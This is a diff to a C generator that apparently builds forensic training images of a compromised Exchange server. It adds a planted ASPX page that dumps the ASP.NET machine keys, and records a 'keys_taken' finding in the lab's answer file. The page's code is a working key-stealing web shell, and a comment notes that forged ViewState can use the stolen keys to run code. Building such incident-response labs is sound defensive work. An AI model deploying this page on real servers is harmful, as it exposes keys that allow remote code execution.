@@ -46,6 +46,7 @@ struct gen {
 	/* a back door took the passwords users typed: the hunt must ask
 	 * for OWA's users' passwords to be reset (since this time) */
 	time_t passwords_taken;
+	bool keys_taken; /* a page read the ASP.NET machine keys */
 	FILE *httpproxy_ecp, *httpproxy_owa, *httpproxy_ad, *iis, *ecp, *oab,
 	    *cmdlet;
 	struct winhost *win; /* event logs and hives */
@@ -787,6 +788,23 @@ static void sc_proxyshell_hidden(struct gen *g)
 		backdoor(g, EXCH "/FrontEnd/HttpProxy/owa/auth/OutlookCN.aspx",
 		         dns, sizeof dns - 1, 1629599200);
 	}
+	/* The machine keys printed for whoever asks (as the 2025 SharePoint
+	 * drop did): forged ViewState runs code with them later. */
+	{
+		static const char keys[] =
+		    "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System."
+		    "Reflection\" %><% var c = (System.Web.Configuration."
+		    "MachineKeySection)typeof(System.Web.Configuration."
+		    "MachineKeySection).GetMethod(\"GetApplicationConfig\", "
+		    "BindingFlags.Static | "
+		    "BindingFlags.NonPublic).Invoke(null, "
+		    "new object[0]); Response.Write(c.ValidationKey + \"|\" + "
+		    "c.Validation + \"|\" + c.DecryptionKey + \"|\" + "
+		    "c.Decryption); %>\r\n";
+		backdoor(g, EXCH "/FrontEnd/HttpProxy/ecp/auth/kv.aspx", keys,
+		         sizeof keys - 1, 1629599300);
+		g->keys_taken = true;
+	}
 }
 
 /* CVE-2021-26857: the UM deserialization as the Application log shows
@@ -1005,6 +1023,8 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 		time_iso((int64_t)g.passwords_taken, when);
 		fprintf(t, ",\"passwords_taken\":\"%s\"", when);
 	}
+	/* whether a page read the machine keys (they must be rotated) */
+	fprintf(t, ",\"keys_taken\":%s", g.keys_taken ? "true" : "false");
 	/* what the image shows beyond the folder (finding kinds by path) */
 	fprintf(t, ",\"image_only\":[");
 	if (o->image && x.deleted_path)
